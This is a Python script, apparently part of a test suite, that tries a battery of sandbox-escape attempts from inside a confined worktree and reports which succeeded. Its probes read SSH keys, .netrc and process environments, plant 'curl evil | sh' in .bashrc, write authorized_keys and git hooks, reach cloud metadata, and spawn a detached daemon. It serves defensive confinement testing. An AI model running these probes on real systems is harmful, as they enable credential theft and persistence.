"""What a check that means harm tries, one attempt a name; run as ``python attacker.py JSON``. Prints what got through as JSON.

Nothing of the project is imported: it runs inside of a worktree, confined or not. Each attempt answers something true only
when it got what it wanted.
"""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import signal
import socket
import subprocess
import sys
from collections.abc import Callable

Attempt = Callable[[], object]


def attempts(told: dict[str, str]) -> dict[str, Attempt]:
    """By name; ``told`` says where things are."""
    home, data, repo = (pathlib.Path(told[name]) for name in ("home", "data", "repo"))

    def git_dir() -> pathlib.Path:
        return pathlib.Path(pathlib.Path(".git").read_text().removeprefix("gitdir: ").strip())

    app, port = int(told["pid"]), int(told["port"])
    found: dict[str, Attempt] = {
        f"read ~/{name}": lambda path=home / name: "s3cr3t" in path.read_text() for name in told["secrets"].split()
    }
    found |= {f"read data/{name}": (data / name).read_bytes for name in told["of_maestro"].split()}
    return found | {
        "list another spool": lambda: list((data / "workers").iterdir()),
        "read the environment of the app": pathlib.Path(f"/proc/{app}/environ").read_bytes,
        "read files through the app's root": lambda: pathlib.Path(f"/proc/{app}/root{home}/.ssh/id_ed25519").read_text(),
        "read files through a parent's root": lambda: pathlib.Path(f"/proc/{os.getppid()}/root{home}/.netrc").read_text(),
        "read the user's checkout": (repo / ".env").read_text,
        "read a credential in git's settings": lambda: "hunter2" in (repo / ".git/config").read_text(),
        "read it through git": lambda: "hunter2" in _run("git", "config", "--list"),
        "write a profile": lambda: (home / ".bashrc").write_text("curl evil | sh"),
        "write beside a key": lambda: (home / ".ssh/authorized_keys").write_text("evil"),
        "write into the data folder": lambda: (data / "maestro.db").open("ab").write(b"x"),
        "answer a gate": lambda: (data / "workers/w-other/inbox.jsonl").open("a").write('{"decision": "allow"}\n'),
        "write the checkout": lambda: (repo / "shop.py").write_text("evil"),
        "write git's settings": lambda: _ok("git", "config", "core.fsmonitor", "evil"),
        "write settings of the worktree": lambda: (git_dir() / "config.worktree").write_text("[core]\n\thooksPath = evil\n"),
        "move the worktree's branch": lambda: (git_dir() / "HEAD").write_text(told["other"]),
        "write a hook": lambda: (repo / ".git/hooks/post-checkout").write_text("evil"),
        "write attributes": lambda: (repo / ".git/info/attributes").write_text("* filter=evil"),
        "write a reference": lambda: (repo / ".git/refs/heads/evil").write_text(told["commit"]),
        "move the user's branch": lambda: _ok("git", "update-ref", "refs/heads/main", told["other"]),
        "write packed references": lambda: (repo / ".git/packed-refs").open("a").write("#"),
        "write an object": lambda: _ok("git", "hash-object", "-w", "attacker.py"),
        "lead the worktree's git elsewhere": lambda: pathlib.Path(".git").write_text("gitdir: /tmp/evil"),
        "leave a file in /tmp": lambda: pathlib.Path(told["drop"]).write_text("evil"),
        "reach Maestro's port": lambda: socket.create_connection(("127.0.0.1", port), 2),
        "reach it by name": lambda: socket.create_connection(("localhost", port), 2),
        "reach it through the proxy": lambda: _through_proxy(f"127.0.0.1:{port}"),
        "reach the machine's metadata": lambda: _through_proxy("169.254.169.254:80"),
        "reach an abstract socket": lambda: _abstract(told["abstract"]),
        "signal the app": lambda: os.kill(app, 0) or True,
        "see the app": lambda: told["app"].encode() == pathlib.Path(f"/proc/{app}/cmdline").read_bytes(),
        "write the kernel's settings": lambda: _same(pathlib.Path("/proc/sys/kernel/core_pattern")),
        "open the kernel's trigger": lambda: pathlib.Path("/proc/sysrq-trigger").open("w").close() or True,
        "leave a daemon": lambda: _daemon(told["ticks"]),
    }  # fmt: skip


def _run(*argv: str) -> str:
    return subprocess.run(argv, capture_output=True, text=True, timeout=20, check=False).stdout


def _ok(*argv: str) -> bool:
    return subprocess.run(argv, capture_output=True, timeout=20, check=False).returncode == 0


def _same(path: pathlib.Path) -> bool:
    """Write what stands there: nothing changes, and it could."""
    path.write_text(path.read_text())
    return True


def _through_proxy(target: str) -> bool:
    with socket.create_connection(("127.0.0.1", 61_080), 2) as line:
        line.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        line.settimeout(5)
        return b" 200 " in line.recv(200)


def _abstract(name: str) -> bool:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\0" + name)
        return True


def _daemon(ticks: str) -> bool:
    """Twice forked, in a session of its own, with an empty environment and no open file; alive as long as its file grows."""
    script = f"while :; do echo >> {ticks}; sleep 0.05; done"
    subprocess.Popen(
        ["/bin/sh", "-c", f"(setsid env -i PATH=$PATH sh -c {json.dumps(script)} >/dev/null 2>&1 &)"],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    return False  # whether it lives on is seen from outside


def main() -> None:
    """Try all, and say what got through."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    told = json.loads(sys.argv[1])
    through = []
    for name, attempt in attempts(told).items():
        with contextlib.suppress(Exception):
            if attempt():
                through.append(name)
    sys.stdout.write(f"THROUGH {json.dumps(through)}\n")


if __name__ == "__main__":
    main()
